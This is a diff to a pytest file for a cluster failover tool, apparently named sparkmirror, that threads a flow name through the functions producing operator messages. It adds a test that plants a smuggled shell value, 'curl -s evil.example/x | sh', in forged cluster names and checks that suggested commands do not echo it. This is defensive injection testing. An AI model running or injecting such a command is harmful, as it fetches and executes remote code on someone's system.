@@ -7,7 +7,10 @@ from typing import Any
 
 import pytest
 
-from sparkmirror.failover.states import COMMITTING, ENDED_BEFORE, FENCE, GIVEN_UP, HOME_FENCE, Kind, Step
+from sparkmirror.errors import LinkError
+from sparkmirror.failover import lifted
+from sparkmirror.failover.broken_off import told_of
+from sparkmirror.failover.states import COMMITTING, ENDED_BEFORE, FENCE, GIVEN_UP, HOME_FENCE, LIFTED, Kind, Step
 from sparkmirror.failover.unfinished import (
     ended_before,
     gives_up,
@@ -16,10 +19,12 @@ from sparkmirror.failover.unfinished import (
     told_of_unfinished,
     why_forward_only,
 )
+from sparkmirror.model import Alias, FlowName
 from sparkmirror.offsets.ledger import Operation
 from sparkmirror.offsets.orders import HoldOrder
 from sparkmirror.offsets.state import JournalState
 
+FLOW = FlowName(source=Alias("a"), target=Alias("b"))
 ROW = ["TOPIC", "orders", "LITERAL", "User:*", "*", "WRITE"]
 BEGUN = Operation(
     token="t",
@@ -73,7 +78,7 @@ def test_a_failover_takes_the_place_of_what_cannot_go_on_without_the_source(kind
     ],
 )
 def test_what_is_given_up_is_told_with_what_stays(operation: Operation, words: str):
-    assert words in said_of_given_up(operation)
+    assert words in said_of_given_up(operation, FLOW)
 
 
 @pytest.mark.parametrize(
@@ -92,9 +97,26 @@ def test_what_is_given_up_is_told_with_what_stays(operation: Operation, words: s
     ],
 )
 def test_a_refusal_names_what_works(operation: Operation, words: str):
-    assert told_of_unfinished(operation).endswith(words)
+    assert told_of_unfinished(operation, FLOW).endswith(words)
 
 
+EVIL = "a; curl -s evil.example/x | sh #"
+
+
+def test_no_command_has_words_of_the_record():
+    """Whoever may write to the flow's internal topic chooses what it says of its clusters."""
+    for kind in Kind:
+        forged = replace(begun(kind, Step.MOVING, {FENCE: [ROW], HOME_FENCE: [ROW]}), source=EVIL, target=EVIL)
+        told = [told_of_unfinished(forged, FLOW), told_of_unfinished(forged, FLOW, overtaken=True)]
+        told += [said_of_given_up(forged, FLOW), why_forward_only(forged, FLOW, None)]
+        told += lifted.said_of_denied({"orders"}, replace(forged, facts=LATE), FLOW, "a", "my file", 2)
+        told.append(lifted.said_of_late(FLOW, "a", "my file"))
+        told.append(str(told_of(LinkError(cluster="a", address="a:9092", reason="it is gone"), forged, FLOW)))
+        assert not any("evil" in each for each in told)
+        assert "release 'my file' --flow 'a->b' --fence-only" in told[-2]
+
+
+LATE = {LIFTED: {"a": {"orders": 1}}}
 COMPARED = {"times": {"COMPARING": [1, 2]}}
 MOVING = begun(Kind.FAILBACK, Step.MOVING, COMPARED | {COMMITTING: True})
 HOLD = HoldOrder(operation="failover-2", reason="failover to a (failover-2)", time_ms=3, by="me")
@@ -161,10 +183,10 @@ def test_the_last_operation_that_ended_is_known_behind_those_that_were_given_up(
 
 
 def test_one_that_is_overtaken_is_given_up_and_waits_for_an_operation_that_has_not_ended():
-    said = told_of_unfinished(MOVING, overtaken=True)
+    said = told_of_unfinished(MOVING, FLOW, overtaken=True)
     assert said.endswith("gone to a another way since: sparkmirror failback --to a --abandon gives it up")
-    waits = why_forward_only(MOVING, flow_back(HOLD, Kind.FAILOVER, Step.MOVING))
+    waits = why_forward_only(MOVING, FLOW, flow_back(HOLD, Kind.FAILOVER, Step.MOVING))
     assert waits.endswith("go on with sparkmirror failover --from b --to a, or add --abandon")
-    assert why_forward_only(MOVING, None).endswith("run the command without --abandon")
+    assert why_forward_only(MOVING, FLOW, None).endswith("run the command without --abandon")
     over = begun(Kind.SWITCHOVER, Step.MOVING, {COMMITTING: True})
-    assert "where applications have stayed on a, add --force" in why_forward_only(over, None)
+    assert "where applications have stayed on a, add --force" in why_forward_only(over, FLOW, None)
